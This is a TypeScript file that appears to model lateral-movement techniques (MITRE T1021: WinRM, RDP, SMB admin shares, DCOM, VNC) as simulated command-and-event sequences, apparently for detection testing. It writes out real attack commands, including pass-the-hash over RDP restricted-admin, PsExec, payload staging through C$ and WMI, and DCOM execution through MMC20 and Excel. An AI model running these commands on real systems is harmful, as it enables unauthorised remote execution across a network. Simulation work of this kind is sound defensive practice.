import { remoteLogon, t, v } from "../dsl";

const netLogon = (session: string, auth: "Kerberos" | "NTLM" = "Kerberos") => remoteLogon(session, auth);

/** Lateral movement: remote execution and remote sessions between the estate's hosts. */
export const lateralMovement = [
  t("T1021", "Remote services", "A remote service used with valid credentials.", [
    v(
      "psremoting",
      [
        {
          ps: "Enter-PSSession -ComputerName {{srv}} -Credential {{domain}}\\{{admin}}",
          net: [["@server", 5985]],
          then: netLogon("wr"),
        },
        {
          cmd: "C:\\Windows\\System32\\wsmprovhost.exe -Embedding",
          host: "@server",
          parent: "@svchost:DcomLaunch",
          user: "@admin",
        },
      ],
      { shell: "ps" },
    ),
    // Pass-the-hash over RDP: restricted-admin mode sends no reusable credentials, so a stolen hash suffices.
    v(
      "mstsc-restrictedadmin",
      [
        {
          cmd: "mstsc.exe /restrictedadmin /v:{{srv}}",
          net: [["@server", 3389]],
          then: [
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "rdpra",
              user: "@admin",
              logonType: 10,
              source: "@workstation",
              authPackage: "Negotiate",
            },
          ],
        },
      ],
      { shell: "none" },
    ),
    // WinRM's remote shell: winrshost.exe on the target runs the operator's commands.
    v("winrs", [
      {
        cmd: "winrs -r:{{srv}} cmd",
        net: [["@server", 5985]],
        then: netLogon("winrs"),
      },
      {
        cmd: "C:\\Windows\\system32\\winrshost.exe -Embedding",
        host: "@server",
        parent: "@svchost:DcomLaunch",
        user: "@admin",
        as: "wr",
      },
      { cmd: "cmd", image: "C:\\Windows\\System32\\cmd.exe", host: "@server", parent: "wr", user: "@admin" },
    ]),
  ]),
  t(
    "T1021.001",
    "Remote desktop protocol",
    "mstsc to a server (type 10 logon), RDP enabled via registry, and tunnelled RDP.",
    [
      v(
        "mstsc",
        [
          {
            cmd: "mstsc.exe /v:{{srv}}",
            net: [["@server", 3389]],
            then: [
              {
                id: "e",
                kind: "credentials.explicit",
                targetUser: "@admin",
                targetServer: "@server",
                targetInfo: "TERMSRV/{{srv}}",
              },
              {
                id: "l",
                kind: "logon",
                host: "@server",
                session: "rdp",
                user: "@admin",
                logonType: 10,
                source: "@workstation",
                authPackage: "Negotiate",
              },
            ],
          },
        ],
        { shell: "none" },
      ),
      v(
        "enable-rdp",
        [
          {
            cmd: 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f',
            reg: [
              [
                "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server",
                "fDenyTSConnections",
                "0",
                "REG_DWORD",
              ],
            ],
          },
          'netsh advfirewall firewall set rule group="remote desktop" new enable=Yes',
          'net localgroup "Remote Desktop Users" {{domain}}\\{{user}} /add',
        ],
        { elevated: true },
      ),
      v("cmdkey-mstsc", [
        { cmd: "cmdkey /generic:TERMSRV/{{srv}} /user:{{domain}}\\{{admin}} /pass:P@ss{{n}}" },
        {
          cmd: "mstsc /v:{{srv}}",
          net: [["@server", 3389]],
          then: [
            {
              id: "l",
              kind: "logon",
              host: "@server",
              session: "rdp2",
              user: "@admin",
              logonType: 10,
              source: "@workstation",
              authPackage: "Negotiate",
            },
          ],
        },
      ]),
    ],
  ),
  t(
    "T1021.002",
    "SMB/Windows admin shares",
    "Admin shares used to stage and run payloads: Sysinternals PsExec (PSEXESVC), Impacket smbexec (see extras) and net use + copy + WMI.",
    [
      v("psexec", [
        {
          cmd: "{{tools}}\\PsExec64.exe -accepteula \\\\{{srv}} -u {{domain}}\\{{admin}} -p ******** -s cmd.exe /c whoami",
          net: [["@server", 445]],
          then: [
            ...netLogon("psx", "NTLM"),
            {
              id: "sh",
              kind: "share.access",
              host: "@server",
              session: "psx",
              share: "ADMIN$",
              relativeTarget: "PSEXESVC.exe",
              accessMask: "0x2",
            },
            {
              id: "svc",
              kind: "service.install",
              host: "@server",
              proc: "@services",
              session: "psx",
              name: "PSEXESVC",
              imagePath: "%SystemRoot%\\PSEXESVC.exe",
            },
            // The client then opens the service's control and stdio pipes over IPC$ (5145 on the target).
            ...[
              "PSEXESVC",
              "PSEXESVC-{{me}}-{{n}}-stdin",
              "PSEXESVC-{{me}}-{{n}}-stdout",
              "PSEXESVC-{{me}}-{{n}}-stderr",
            ].map((pipe, k) => ({
              id: `ipc${k}`,
              kind: "share.access" as const,
              host: "@server",
              session: "psx",
              share: "IPC$",
              relativeTarget: pipe,
              accessMask: "0x12019f",
            })),
          ],
        },
        {
          cmd: "C:\\Windows\\PSEXESVC.exe",
          as: "pss",
          host: "@server",
          parent: "@services",
          user: "@system",
          pipes: ["\\PSEXESVC", "\\PSEXESVC-{{me}}-{{n}}-stdin", "\\PSEXESVC-{{me}}-{{n}}-stdout"],
        },
        { cmd: "cmd.exe /c whoami", host: "@server", parent: "pss", as: "c" },
        { cmd: "whoami", host: "@server", parent: "c" },
      ]),
      v(
        "net-use-copy-wmic",
        [
          {
            cmd: "net use \\\\{{srv}}\\C$ /user:{{domain}}\\{{admin}} ********",
            net: [["@server", 445]],
            then: [
              {
                id: "e",
                kind: "credentials.explicit",
                targetUser: "@admin",
                targetServer: "@server",
                targetInfo: "{{srv}}",
              },
              ...netLogon("nu"),
            ],
          },
          {
            cmd: "cmd.exe /c copy {{tools}}\\{{name}}.exe \\\\{{srv}}\\C$\\Windows\\Temp\\{{name}}.exe",
            then: [
              {
                id: "s",
                kind: "share.access",
                host: "@server",
                session: "nu",
                share: "C$",
                relativeTarget: "Windows\\Temp\\{{name}}.exe",
                accessMask: "0x2",
              },
            ],
          },
          {
            cmd: 'wmic /node:{{srv}} process call create "C:\\Windows\\Temp\\{{name}}.exe"',
            net: [["@server", 135]],
          },
          { cmd: "C:\\Windows\\Temp\\{{name}}.exe", host: "@server", parent: "@wmiprvse", user: "@admin" },
        ],
        { user: "@admin" },
      ),
    ],
  ),
  t("T1021.003", "DCOM", "MMC20.Application/ShellBrowserWindow instantiated on a remote host.", [
    v(
      "mmc20-remote",
      [
        {
          ps: '$c = [activator]::CreateInstance([type]::GetTypeFromProgID("MMC20.Application","{{srv}}")); $c.Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c {{tools}}\\{{rand}}.exe","7")',
          net: [["@server", 135]],
          then: netLogon("dcom"),
        },
        {
          cmd: "C:\\Windows\\system32\\mmc.exe -Embedding",
          as: "mmc",
          host: "@server",
          parent: "@svchost:DcomLaunch",
          user: "@admin",
        },
        {
          cmd: '"C:\\Windows\\System32\\cmd.exe" /c {{tools}}\\{{rand}}.exe',
          host: "@server",
          parent: "mmc",
          as: "c",
        },
        { cmd: "{{tools}}\\{{rand}}.exe", host: "@server", parent: "c" },
      ],
      { shell: "ps" },
    ),
    // Excel's ActivateMicrosoftApp starts FoxPro/Schedule+/Project from the Office folder: the payload is planted
    // there under that name over C$, then remote Excel launches it.
    v(
      "excel-activatemicrosoftapp",
      [
        {
          ps: 'Copy-Item {{tools}}\\{{rand}}.exe "\\\\{{srv}}\\C$\\Program Files\\Microsoft Office\\root\\Office16\\FOXPROW.EXE"',
          net: [["@server", 445]],
          then: [
            ...netLogon("xlcp"),
            {
              id: "s",
              kind: "share.access",
              host: "@server",
              session: "xlcp",
              share: "C$",
              relativeTarget: "Program Files\\Microsoft Office\\root\\Office16\\FOXPROW.EXE",
              accessMask: "0x2",
            },
          ],
        },
        {
          ps: '$e = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application","{{srv}}")); $e.ActivateMicrosoftApp("5")',
          net: [["@server", 135]],
          then: netLogon("xlam"),
        },
        {
          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /automation -Embedding',
          as: "xl",
          host: "@server",
          parent: "@svchost:DcomLaunch",
          user: "@admin",
        },
        {
          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\FOXPROW.EXE" ',
          host: "@server",
          parent: "xl",
        },
      ],
      { shell: "ps" },
    ),
    v(
      "excel-dcom",
      [
        {
          ps: '$e = [activator]::CreateInstance([type]::GetTypeFromProgID("Excel.Application","{{srv}}")); $e.DisplayAlerts = $false; $e.DDEInitiate("cmd", "/c {{tools}}\\{{rand}}.exe")',
          net: [["@server", 135]],
          then: netLogon("dcomxl"),
        },
        {
          cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /automation -Embedding',
          as: "xl",
          host: "@server",
          parent: "@svchost:DcomLaunch",
          user: "@admin",
        },
        { cmd: "cmd.exe /c {{tools}}\\{{rand}}.exe", host: "@server", parent: "xl", as: "c" },
        { cmd: "{{tools}}\\{{rand}}.exe", host: "@server", parent: "c" },
      ],
      { shell: "ps" },
    ),
  ]),
  t("T1021.005", "VNC", "A VNC viewer connecting to a server.", [
    v(
      "vncviewer",
      [
        {
          cmd: '"C:\\Program Files\\RealVNC\\VNC Viewer\\vncviewer.exe" {{srv}}:5900',
          net: [["@server", 5900]],
        },
      ],
      { shell: "none" },
    ),
  ]),
];
